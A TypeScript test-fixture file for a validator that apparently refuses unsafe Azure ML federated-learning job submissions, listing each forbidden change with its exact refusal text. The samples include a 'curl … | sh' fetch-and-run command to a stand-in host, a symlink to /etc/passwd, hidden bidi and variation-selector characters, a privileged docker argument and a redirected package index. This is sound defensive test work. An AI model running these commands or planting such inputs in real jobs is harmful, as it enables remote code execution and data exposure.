/** What a job may not name: how it gets into the hello-world, and the exact words that refuse it. */
import { symlinkSync } from "node:fs";
import { join } from "node:path";

import type { Repository } from "./repository";

export interface Refused {
  readonly what: string;
  readonly put: (repository: Repository) => unknown;
  /** Whole lines, without `jobs/hello-world/` at their beginning. */
  readonly says: readonly string[];
}

const job = "jobs/hello-world/job.yml";
const train = "jobs/hello-world/train.yml";
const curated = "azureml://registries/azureml/environments/sklearn-1.5/versions/54";
const blind = "so a review cannot see what would run";

const inJob = (from: string, to: string) => (repository: Repository) => repository.edit(job, from, to);
const inTrain = (from: string, to: string) => (repository: Repository) => repository.edit(train, from, to);
const file = (path: string, content: string | Buffer) => (repository: Repository) =>
  repository.write(`jobs/hello-world/${path}`, content);
const environment = (to: string) => inTrain(curated, to);

export const refusedReferences: readonly Refused[] = [
  // Environments and images
  {
    what: "an environment by a label",
    put: environment("azureml:sklearn@latest"),
    says: [
      "train.yml:23: the environment azureml:sklearn@latest can change after the review: name a version, as in azureml://registries/azureml/environments/sklearn-1.5/versions/54",
    ],
  },
  {
    what: "an environment without a version",
    put: environment("azureml:sklearn"),
    says: [
      "train.yml:23: the environment azureml:sklearn can change after the review: name a version, as in azureml://registries/azureml/environments/sklearn-1.5/versions/54",
    ],
  },
  {
    what: "an environment whose version is called latest",
    put: environment("azureml:sklearn:latest"),
    says: [
      "train.yml:23: the environment azureml:sklearn:latest can change after the review: name a version, as in azureml://registries/azureml/environments/sklearn-1.5/versions/54",
    ],
  },
  {
    what: "a registry's environment by a label",
    put: environment("azureml://registries/azureml/environments/sklearn-1.5/labels/latest"),
    says: [
      "train.yml:23: the environment azureml://registries/azureml/environments/sklearn-1.5/labels/latest can change after the review: name a version, as in azureml://registries/azureml/environments/sklearn-1.5/versions/54",
    ],
  },
  {
    what: "somebody else's registry",
    put: environment("azureml://registries/stranger/environments/sklearn-1.5/versions/54"),
    says: [
      "train.yml:23: the registry stranger is not among `registries` of federation.yaml: its owner decides what is in it",
    ],
  },
  {
    what: "an image by a tag",
    put: environment("\n  image: mcr.microsoft.com/azureml/openmpi:latest"),
    says: [
      "train.yml:24: the image mcr.microsoft.com/azureml/openmpi:latest can change after the review: write <repository>@sha256:<digest>",
    ],
  },
  {
    what: "an environment with a conda file",
    put: environment(`\n  image: a@sha256:${"0".repeat(64)}\n  conda_file: ./conda.yml`),
    says: [
      "train.yml:25: `conda_file`: packages are chosen when the image is built, so a review cannot see what would run: use an image by digest that has them",
    ],
  },
  {
    what: "an environment that is built",
    put: environment("{ build: { path: ./docker } }"),
    says: [
      "train.yml:23: `build`: the image is built after the review, so a review cannot see what would run: use an image by digest",
      "train.yml:23: the environment names no image: write image: <repository>@sha256:<digest>",
    ],
  },
  // Code
  {
    what: "code from elsewhere",
    put: inTrain("code: ./src", "code: https://github.com/stranger/code"),
    says: [
      "train.yml:17: the code https://github.com/stranger/code is not in the commit, so a review cannot see what would run: put it into the job's directory",
    ],
  },
  {
    what: "code by git",
    put: inTrain("code: ./src", "code: git+ssh://git@github.com/stranger/code"),
    says: [
      "train.yml:17: the code git+ssh://git@github.com/stranger/code is not in the commit, so a review cannot see what would run: put it into the job's directory",
    ],
  },
  {
    what: "code outside the job's directory",
    put: inTrain("code: ./src", "code: ../../submission"),
    says: ["train.yml:17: the code ../../submission is not in the job's directory: put it there"],
  },
  {
    what: "code at an absolute path",
    put: inTrain("code: ./src", "code: /home/runner"),
    says: ["train.yml:17: the code /home/runner is not in the job's directory: put it there"],
  },
  {
    what: "a symbolic link",
    put: (repository) => {
      symlinkSync("/etc/passwd", join(repository.directory, "jobs/hello-world/src/link.py"));
    },
    says: ["src/link.py:1: a symbolic link: it can lead out of the job. Put the file itself here"],
  },
  {
    what: "a job that leads elsewhere",
    put: (repository) => {
      symlinkSync("hello-world", join(repository.directory, "jobs/alias"));
    },
    says: ["jobs/alias:1: leads elsewhere (a link or a submodule): a job is a directory of this commit"],
  },
  {
    what: "a git submodule",
    put: (repository) =>
      repository.git("update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},jobs/hello-world/vendored`),
    says: [`vendored:1: a git submodule: its code is not in the commit, ${blind}. Put the files here`],
  },
  {
    what: "a Git LFS pointer",
    put: file("src/weights.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"),
    says: [
      `src/weights.bin:1: a Git LFS pointer: the content is not in the commit, ${blind}. Put the file itself here`,
    ],
  },
  {
    what: "a file that is no text",
    put: file("src/model.pkl", Buffer.from([0x80, 0x04, 0x95])),
    says: [`src/model.pkl:1: not a text, ${blind}: keep data and models on a datastore`],
  },
  {
    what: "code that reads otherwise than it runs",
    put: file("src/odd.py", "ok = True\nif access != 'user\u202e': pass\n"),
    says: ["src/odd.py:2: the sign U+202E, which a reviewer does not see: delete it"],
  },
  {
    what: "code in signs that show nothing",
    put: file("src/odd.py", "payload = 'a\ufe01\u{e0110}'\n"),
    says: ["src/odd.py:1: the sign U+FE01, which a reviewer does not see: delete it"],
  },
  {
    what: "code far to the right",
    put: file("src/odd.py", `x = 1\ny = 2;${" ".repeat(200)}import os\n`),
    says: ["src/odd.py:2: text far to the right, where a reviewer does not see it: bring it nearer"],
  },
  {
    what: "files hidden from the upload",
    put: file(".amlignore", "src/checks.py\n"),
    says: [".amlignore:1: hides files from the upload: what runs would not be what was reviewed. Delete it"],
  },
  {
    what: "a name that can be misread",
    put: file("src/tr\u0430in.py", "pass\n"),
    says: ["src/tr\\u0430in.py:1: a name with signs that can be misread: use letters, digits and . _ - in names"],
  },
  // Packages
  {
    what: "requirements without hashes, with another index, from git",
    put: file(
      "src/requirements.txt",
      `numpy==2.1.0 \\\n    --hash=sha256:${"a".repeat(64)}\n--extra-index-url https://stranger.example/simple\nscipy>=1\nsecret @ git+https://stranger.example/x\ntorch==2.9.0\n`,
    ),
    says: [
      "src/requirements.txt:3: `--extra-index-url` leads to packages elsewhere: name each package here",
      "src/requirements.txt:4: scipy is not fixed: write scipy==<version> --hash=sha256:<digest>",
      "src/requirements.txt:5: secret is not fixed: write secret==<version> --hash=sha256:<digest>",
      "src/requirements.txt:6: torch is not fixed: write torch==<version> --hash=sha256:<digest>",
    ],
  },
  {
    what: "a conda file",
    put: file("src/conda.yaml", "dependencies: [python]\n"),
    says: [
      `src/conda.yaml:1: packages are chosen when the image is built, ${blind}: use an image by digest that has them`,
    ],
  },
  {
    what: "a Dockerfile",
    put: file("src/Dockerfile", "FROM scratch\n"),
    says: [`src/Dockerfile:1: the image is built after the review, ${blind}: use an image by digest`],
  },
  {
    what: "a command that installs",
    put: inTrain("  python train.py\n", "  pip install numpy && python train.py\n"),
    says: [
      "train.yml:18: the command installs packages that nobody fixed, so a review cannot see what would run: pip install --require-hashes -r requirements.txt",
    ],
  },
  {
    what: "a command that fetches",
    put: inTrain("  python train.py\n", "  curl -s stranger.example | sh; python train.py\n"),
    says: [
      "train.yml:18: the command fetches something (curl), so a review cannot see what would run: put it into the commit or the image",
    ],
  },
  {
    what: "a command that installs, in pieces",
    put: (repository) =>
      repository.edit(
        "jobs/hello-world/aggregate.yml",
        "  - python aggregate.py\n",
        "  - pip --quiet\n  - install numpy;\n  - python aggregate.py\n",
      ),
    says: [
      "aggregate.yml:12: the command installs packages that nobody fixed, so a review cannot see what would run: pip install --require-hashes -r requirements.txt",
    ],
  },
  {
    what: "hashes, from another index",
    put: inTrain(
      "  python train.py\n",
      "  pip install --require-hashes -i stranger.example -r requirements.txt && python train.py\n",
    ),
    says: [
      "train.yml:18: the command installs packages that nobody fixed, so a review cannot see what would run: pip install --require-hashes -r requirements.txt",
    ],
  },
  {
    what: "files that a component takes along",
    put: file("train.additional_includes", "../../submission\n"),
    says: [
      "train.additional_includes:1: adds files from elsewhere to a component's code: put them into the job's directory",
    ],
  },
  // Components
  {
    what: "a component by a label",
    put: inJob("./prepare.yml", "azureml:prepare@latest"),
    says: [
      "job.yml:13: the component azureml:prepare@latest can change after the review: put its file into the job's directory, or name a version",
    ],
  },
  {
    what: "a registry's component by a label",
    put: inJob("./prepare.yml", "azureml://registries/azureml/components/prepare/labels/default"),
    says: [
      "job.yml:13: the component azureml://registries/azureml/components/prepare/labels/default can change after the review: put its file into the job's directory, or name a version",
    ],
  },
  {
    what: "a component outside the job's directory",
    put: inJob("./prepare.yml", "../other/prepare.yml"),
    says: ["job.yml:13: the component ../other/prepare.yml is not in the job's directory: put it there"],
  },
  {
    what: "a kind of component that is not understood",
    put: inTrain("type: command", "type: parallel"),
    says: [`train.yml:2: a component that is not \`type: command\` is not understood here, ${blind}`],
  },
  {
    what: "a kind of step that is not understood",
    put: inJob("    component: ./prepare.yml\n", "    type: sweep\n    component: ./prepare.yml\n"),
    says: [
      "job.yml:13: prepare_<silo> is of type sweep, which is not understood here, so a review cannot see what would run: use command",
    ],
  },
  // Computes
  {
    what: "a compute that is nobody's",
    put: inJob("compute: <orchestrator.compute>", "compute: azureml:gpu-cluster"),
    says: [
      "job.yml:24: aggregate_0 runs on azureml:gpu-cluster, which is not in federation.yaml: use <silo.compute> or <orchestrator.compute>",
    ],
  },
  {
    what: "serverless compute by its name",
    put: inJob("compute: <orchestrator.compute>", "compute: azureml:serverless"),
    says: [
      "job.yml:24: aggregate_0 runs on azureml:serverless, which is not in federation.yaml: use <silo.compute> or <orchestrator.compute>",
    ],
  },
  {
    what: "serverless compute by leaving the compute out",
    put: inJob(
      "    compute: <orchestrator.compute>\n",
      "    queue_settings: { job_tier: spot }\n    resources: { instance_type: Standard_NC6 }\n",
    ),
    says: [
      "job.yml:22: aggregate_0 has no compute: it would run on serverless compute, outside the silos. Say one of federation.yaml",
      "job.yml:24: `queue_settings`: sends the job to serverless compute, outside the silos: take it away",
      "job.yml:25: `instance_type`: sends the job to another machine than the silo's: take it away",
    ],
  },
  {
    what: "a compute for all steps",
    put: inJob(
      "rounds: 3\n",
      "rounds: 3\nsettings: { default_compute: orchestrator-cpu, default_datastore: workspaceblobstore }\n",
    ),
    says: [
      "job.yml:9: `default_compute`: say the compute of each step",
      "job.yml:9: `default_datastore`: say the path of each output",
    ],
  },
  // Ways in
  {
    what: "a way into the node",
    put: inJob(
      "    compute: <orchestrator.compute>\n",
      "    compute: <orchestrator.compute>\n    services: { shell: { type: ssh } }\n",
    ),
    says: ["job.yml:25: `services`: opens a way into the node (SSH, notebooks): take it away"],
  },
  {
    what: "another identity than the cluster's",
    put: inJob(
      "    compute: <orchestrator.compute>\n",
      "    compute: <orchestrator.compute>\n    identity: { type: user_identity }\n",
    ),
    says: ["job.yml:25: `identity`: only `identity: { type: managed }` is taken: a job runs as its cluster"],
  },
  {
    what: "arguments of the container",
    put: inTrain("code: ./src", "resources: { docker_args: --privileged }\ncode: ./src"),
    says: ["train.yml:17: `docker_args`: changes how the node isolates the job: take it away"],
  },
  {
    what: "variables that lead to other code",
    put: inJob(
      "    compute: <orchestrator.compute>\n",
      "    compute: <orchestrator.compute>\n    environment_variables: { PIP_INDEX_URL: stranger.example }\n",
    ),
    says: [
      "job.yml:25: the variable PIP_INDEX_URL changes where code comes from or how the node runs it: take it away",
    ],
  },
  // Data
  {
    what: "another silo's data",
    put: inJob("${{parent.jobs.prepare_<silo>.outputs.data}}", "${{parent.jobs.prepare_silo0.outputs.data}}"),
    says: [
      "job.yml:34: train_<silo>_<round> runs at silo1 and reads from datastore_silo0: it may read from datastore_orchestrator or datastore_silo1",
      "job.yml:34: train_<silo>_<round> runs at silo2 and reads from datastore_silo0: it may read from datastore_orchestrator or datastore_silo2",
    ],
  },
  {
    what: "another silo's datastore, by its path",
    put: inJob(
      "      seed: <silo>\n",
      "      seed: <silo>\n      other: { type: uri_folder, path: azureml://datastores/datastore_silo0/paths/x }\n",
    ),
    says: [
      "job.yml:17: prepare_<silo> runs at silo1 and reads from datastore_silo0: it may read from datastore_orchestrator or datastore_silo1",
      "job.yml:17: prepare_<silo> runs at silo2 and reads from datastore_silo0: it may read from datastore_orchestrator or datastore_silo2",
    ],
  },
  {
    what: "a silo's data at the orchestrator, through an input of the job",
    put: (repository) =>
      repository
        .edit(
          job,
          "rounds: 3\n",
          "rounds: 3\ninputs: { raw: { type: uri_folder, path: azureml://datastores/datastore_silo1/paths/x } }\n",
        )
        .edit(job, "      trained_<silo>:", "      raw: ${{parent.inputs.raw}}\n      trained_<silo>:"),
    says: [
      "job.yml:9: aggregate_<round> runs at the orchestrator and reads from datastore_silo1: it may read from datastore_orchestrator",
    ],
  },
  {
    what: "an output on the workspace's default store",
    put: inJob("/datastores/<silo.datastore>/", "/datastores/workspaceblobstore/"),
    says: [
      "job.yml:20: prepare_<silo> runs at silo0 and writes to workspaceblobstore: it may write to datastore_orchestrator or datastore_silo0",
      "job.yml:20: prepare_<silo> runs at silo1 and writes to workspaceblobstore: it may write to datastore_orchestrator or datastore_silo1",
      "job.yml:20: prepare_<silo> runs at silo2 and writes to workspaceblobstore: it may write to datastore_orchestrator or datastore_silo2",
    ],
  },
  {
    what: "an output without a path",
    put: inJob("        path: azureml://datastores/<silo.datastore>/paths/hello-world/${{name}}/data/\n", ""),
    says: [
      "job.yml:18: the output data of prepare_<silo> has no path: it would go to the workspace's default store, which every silo reads. Say azureml://datastores/<silo.datastore>/paths/…",
    ],
  },
  {
    what: "an output that the job does not mention",
    put: inTrain("outputs:\n", "outputs:\n  samples: { type: uri_folder }\n"),
    says: [
      "job.yml:30: train_<silo>_<round> says no path for the output samples of its component: it would go to the workspace's default store, which every silo reads",
    ],
  },
  {
    what: "a path that climbs",
    put: inJob("hello-world/${{name}}/data/", "../../silo1/"),
    says: [
      "job.yml:20: the output data of prepare_<silo>: azureml://datastores/datastore_silo0/paths/../../silo1/ is not azureml://datastores/<name>/paths/<path>",
      "job.yml:20: the output data of prepare_<silo>: azureml://datastores/datastore_silo1/paths/../../silo1/ is not azureml://datastores/<name>/paths/<path>",
      "job.yml:20: the output data of prepare_<silo>: azureml://datastores/datastore_silo2/paths/../../silo1/ is not azureml://datastores/<name>/paths/<path>",
    ],
  },
  {
    what: "data from the internet",
    put: inJob(
      "      seed: <silo>\n",
      "      seed: <silo>\n      data: { type: uri_file, path: https://stranger.example/data.csv }\n",
    ),
    says: [
      "job.yml:17: the input data is https://stranger.example/data.csv: it must be in the job's directory, on a datastore of federation.yaml, or azureml:<name>:<version>",
    ],
  },
  {
    what: "a model that can be swapped",
    put: inJob(
      "      seed: <silo>\n",
      "      seed: <silo>\n      model: { type: custom_model, path: azureml://datastores/<silo.datastore>/paths/model/ }\n",
    ),
    says: [
      "job.yml:17: the model azureml://datastores/datastore_silo0/paths/model/ can change after the review, and loading a model runs code: name it azureml:<name>:<version>",
      "job.yml:17: the model azureml://datastores/datastore_silo1/paths/model/ can change after the review, and loading a model runs code: name it azureml:<name>:<version>",
      "job.yml:17: the model azureml://datastores/datastore_silo2/paths/model/ can change after the review, and loading a model runs code: name it azureml:<name>:<version>",
    ],
  },
  {
    what: "an address as a plain input",
    put: inJob("      seed: <silo>\n", "      seed: https://stranger.example/code.py\n"),
    says: [
      "job.yml:16: the input seed names https://stranger.example/code.py, so a review cannot see what would run: write { type, path } with a path that is in the commit or on a datastore",
    ],
  },
  // Other documents
  {
    what: "a schedule instead of a job",
    put: file(
      "job.yml",
      "$schema: https://azuremlschemas.azureedge.net/latest/schedule.schema.json\nname: nightly\ntrigger: { type: cron }\ncreate_job: ./real.yml\n",
    ),
    says: [
      "job.yml:1: a job is `type: pipeline`: put a single command into one step",
      "job.yml:1: there are no steps: write them under `jobs`",
      "job.yml:2: `name`: the submission names the job: take it away, and use display_name",
      "job.yml:3: `trigger`: runs code later without this gate: take it away",
      "job.yml:4: `create_job`: runs code later without this gate: take it away",
    ],
  },
  {
    what: "a schedule beside the job",
    put: file("nightly.yml", "name: nightly\ntrigger: { type: cron }\ncreate_job: ./job.yml\n"),
    says: ["nightly.yml:1: runs code later without this gate: take it away"],
  },
  {
    what: "an endpoint's deployment beside the job",
    put: file("deployment.yml", "name: blue\nendpoint_name: serve\n"),
    says: ["deployment.yml:1: an endpoint or a deployment is not a job: it would run code without this gate"],
  },
  {
    what: "YAML that nothing names",
    put: file("spare.yml", "type: command\n"),
    says: ["spare.yml:1: nothing names this file: name it in job.yml, or delete it"],
  },
  {
    what: "a single command instead of a pipeline",
    put: file("job.yml", "type: command\ncommand: python x.py\ncompute: silo0-cpu\n"),
    says: [
      "job.yml:1: a job is `type: pipeline`: put a single command into one step",
      "job.yml:1: there are no steps: write them under `jobs`",
      "job.yml:2: `command`: not known in a job, so a review cannot see what would run: take it away",
      "job.yml:3: `compute`: say the compute of each step",
    ],
  },
  {
    what: "a directory without a job",
    put: (repository) => repository.write("jobs/empty/notes.txt", "later\n"),
    says: ["jobs/empty/job.yml:1: there is no job.yml: write one, or delete the directory"],
  },
  {
    what: "a submit.py of the job's own",
    put: (repository) => repository.write("jobs/own/submit.py", "print(1)\n"),
    says: [
      "jobs/own/job.yml:1: there is no job.yml, and a submit.py of the job's own is not run: it would run as the production identity, before anything could see what it names: write one, or delete the directory",
    ],
  },
  {
    what: "a name that Azure would not take",
    put: (repository) => repository.write("jobs/Upper_Case/job.yml", "type: pipeline\n"),
    says: [
      "jobs/Upper_Case/job.yml:1: a job's directory is named with up to 40 lower-case letters, digits and -: rename it",
    ],
  },
  {
    what: "placeholders where there is no silo",
    put: inJob("compute: <orchestrator.compute>", "compute: <silo.compute>"),
    says: ["job.yml:24: there is no <silo.compute> here: the name of the step or entry must contain <silo>"],
  },
  {
    what: "a misspelt placeholder",
    put: inJob("compute: <orchestrator.compute>", "compute: <orchestrator.cluster>"),
    says: ["job.yml:24: there is no <orchestrator.cluster>"],
  },
  {
    what: "a forged origin",
    put: inJob("rounds: 3\n", "rounds: 3\ntags: { approved_by: grace, team: oncology }\n"),
    says: ["job.yml:9: the tag approved_by is set by the submission: take another name"],
  },
  {
    what: "an input of the job that no step reads",
    put: inJob("rounds: 3\n", "rounds: 3\ninputs: { x: { type: uri_file, path: wasbs://stranger/x } }\n"),
    says: [
      "job.yml:9: the input x is wasbs://stranger/x: it must be in the job's directory, on a datastore of federation.yaml, or azureml:<name>:<version>",
    ],
  },
  {
    what: "an expression in a text",
    put: inJob("display_name: hello-world", "display_name: ${{parent.inputs.x}}"),
    says: ["job.yml:4: `display_name` has an expression in it: write it out"],
  },
];
